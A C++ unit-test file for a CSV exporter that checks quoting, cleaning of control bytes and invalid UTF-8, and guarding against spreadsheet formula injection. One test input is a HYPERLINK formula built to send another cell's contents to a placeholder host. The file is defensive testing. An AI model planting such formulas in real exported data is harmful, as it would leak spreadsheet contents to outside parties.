#include "results/Exports.h"

#include <gtest/gtest.h>

using namespace orv;

namespace {

const std::string kFffd = "\xEF\xBF\xBD";

} // namespace

// A field is quoted only when it must be; controls and bytes that are not
// UTF-8 never pass; free text a spreadsheet would take for a formula gets a
// leading quote, an address does not.
TEST(Exports, CsvFieldsAreQuotedCleanedAndGuarded) {
    struct Case {
        std::string text;
        std::string field;
        std::string textField;
    };
    for (const Case& c : std::vector<Case>{
             {"plain", "plain", "plain"},
             {"", "", ""},
             {"a\x1b[2Jb\x7f\xff", "a" + kFffd + "[2Jb" + kFffd + kFffd,
              "a" + kFffd + "[2Jb" + kFffd + kFffd},
             {"a\rb", "\"a\rb\"", "\"a\rb\""},
             {"a,b \"q\"", "\"a,b \"\"q\"\"\"", "\"a,b \"\"q\"\"\""},
             {"\xc2\x85x", kFffd + "x", kFffd + "x"},
             {"=1+2.pptx", "=1+2.pptx", "'=1+2.pptx"},
             {"+x", "+x", "'+x"},
             {"-x", "-x", "'-x"},
             {"@x", "@x", "'@x"},
             {"=HYPERLINK(\"http://x/?a=\"&A2,\"x\")", "\"=HYPERLINK(\"\"http://x/?a=\"\"&A2,\"\"x\"\")\"",
              "\"'=HYPERLINK(\"\"http://x/?a=\"\"&A2,\"\"x\"\")\""},
             {"a=1", "a=1", "a=1"},
         }) {
        EXPECT_EQ(CsvField(c.text), c.field) << c.text;
        EXPECT_EQ(CsvTextField(c.text), c.textField) << c.text;
    }
}

TEST(Exports, CsvFileHasTheHeaderThenARecordPerRow) {
    EXPECT_EQ(CsvFileBytes({}), "address,file,slide,place,name\r\n");
    const std::vector<SourcedRow> rows{
        {"a@b.cc", RowSource{"/d/=x,y.pptx", 3, "table", "@Table 1"}},
        {"m@n.oo", RowSource{"/d/e.odp", 0, "master", ""}},
        {"bare@b.cc", std::nullopt},
    };
    EXPECT_EQ(CsvFileBytes(rows), "address,file,slide,place,name\r\n"
                                  "a@b.cc,\"/d/=x,y.pptx\",3,table,'@Table 1\r\n"
                                  "m@n.oo,/d/e.odp,0,master,\r\n"
                                  "bare@b.cc,,,,\r\n");
}
